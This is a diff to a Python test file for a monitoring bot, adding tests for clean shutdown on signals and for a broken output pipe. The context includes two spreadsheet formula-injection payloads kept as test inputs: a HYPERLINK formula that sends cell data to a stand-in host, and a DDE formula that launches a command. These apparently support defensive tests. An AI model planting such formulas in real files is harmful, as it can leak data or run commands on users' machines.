@@ -5,8 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
+import os
 import random
+import signal
 import sqlite3
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
@@ -16,6 +20,7 @@ from sqlalchemy.engine import Engine
 from sqlmodel import select
 
 from bot.cli.main import main
+from bot.offline.http import FakeBotAPI
 from storage.data.db import read_scope, session_scope
 from storage.data.models import Narasi, Realisasi
 from storage.files.demo import SEED_FILE
@@ -25,6 +30,7 @@ from storage.files.report_parser import MAX_FILE_BYTES, MAX_LINES, BadFileError,
 from storage.services.queries import summary
 from tests.test_importer import _reopen_all, _snapshot
 
+ROOT = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik di sini")'
 DDE = "=cmd|' /C calc'!A0"
 
@@ -318,3 +324,58 @@ def test_backup_refuses_a_damaged_sqlite_database(
     err = capsys.readouterr().err
     assert "Basis data rusak" in err and "Cadangan tidak dibuat" in err
     assert not (tmp_path / "rusak.bak").exists()
+
+
+# --- clean stops and pipes ----------------------------------------------------------------
+
+
+def _children(pid: int) -> list[str]:
+    """Command lines of the direct children of ``pid`` (Linux /proc)."""
+    out = []
+    for stat in Path("/proc").glob("[0-9]*/stat"):
+        try:
+            fields = stat.read_text().rsplit(")", 1)[1].split()
+            if int(fields[1]) == pid:
+                out.append((stat.parent / "cmdline").read_bytes().replace(b"\0", b" ").decode())
+        except (OSError, IndexError, ValueError):
+            continue
+    return out
+
+
+@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
+async def test_monev_run_stops_quietly(workdir: Path, sig: signal.Signals) -> None:
+    from tests.test_run_process import _start, _until
+
+    assert main(["summary"]) == 0
+    async with FakeBotAPI() as fake:
+        proc = await _start(workdir, fake, new_session=True)
+        try:
+            await _until(lambda: any(c.method == "getUpdates" for c in fake.api.calls))
+            await _until(lambda: any("charts.worker" in c for c in _children(proc.pid)))
+            # Ctrl+C in a terminal signals the whole process group: bot and chart worker.
+            os.killpg(proc.pid, sig)
+            # Waited for without blocking the loop: the fake Bot API answers the goodbye calls.
+            await _until(lambda: proc.poll() is not None)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+        err = proc.stderr.read().decode() if proc.stderr else ""
+    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
+
+
+def test_cli_output_into_a_closed_pipe_exits_quietly(workdir: Path) -> None:
+    assert main(["summary"]) == 0
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "bot.cli", "findings", "--tahun", "2022"],
+        cwd=workdir,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    assert proc.stdout is not None and proc.stderr is not None
+    proc.stdout.readline()  # what `head -1` reads, then it leaves
+    proc.stdout.close()
+    err = proc.stderr.read().decode()
+    assert proc.wait(timeout=60) in (0, 141)
+    assert "Traceback" not in err and "BrokenPipeError" not in err, err
